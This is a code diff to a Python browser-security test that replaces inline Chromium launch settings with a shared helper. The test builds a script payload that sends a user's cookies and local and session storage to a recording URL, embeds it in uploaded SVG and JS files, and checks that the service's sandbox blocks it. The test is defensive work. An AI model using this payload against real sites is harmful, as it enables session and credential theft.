@@ -16,15 +16,12 @@ from typing import Any
 import aiohttp
 import pytest
 from aiohttp import web
+from browsing import chromium
 from playwright.async_api import Error as PlaywrightError
-from playwright.async_api import async_playwright
 from service_harness import Running, basic_header, free_port, serving
 
 from service.session import COOKIE
 
-CHROMIUM = "/usr/bin/chromium"
-FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-         "--disable-component-update", "--disable-sync", "--no-first-run"]
 SANDBOX = "default-src 'none'; sandbox"
 
 
@@ -105,7 +102,7 @@ async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Runn
     """Bob uploads a page, a picture and a script that would send Alice's key away; Alice,
     signed in on the start page, opens Bob's signed links in the same browser."""
     bob = running.other
-    async with recorder() as (leak, seen), async_playwright() as playwright:
+    async with recorder() as (leak, seen), chromium() as browser:
         steal = (f'new Image().src = "{leak}/leak?" + encodeURIComponent('
                  "JSON.stringify([sessionStorage, localStorage]) + document.cookie);"
                  " window.stolen = 1;")
@@ -114,7 +111,6 @@ async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Runn
         await upload(running, "steal.svg", ('<svg xmlns="http://www.w3.org/2000/svg">'
                                             f"<script>{steal}</script></svg>").encode(), bob)
         await upload(running, "steal.js", steal.encode(), bob)
-        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
         context = await browser.new_context()  # one browser profile: Alice's tab and Bob's links
         page = await context.new_page()
         await page.goto(running.service.url + "/")
@@ -142,7 +138,6 @@ async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Runn
         # and the start page still works, signed in (the cookie is sent by the browser)
         await page.reload()
         await page.locator("#jobs li").first.wait_for()
-        await browser.close()
     assert seen == []
 
 
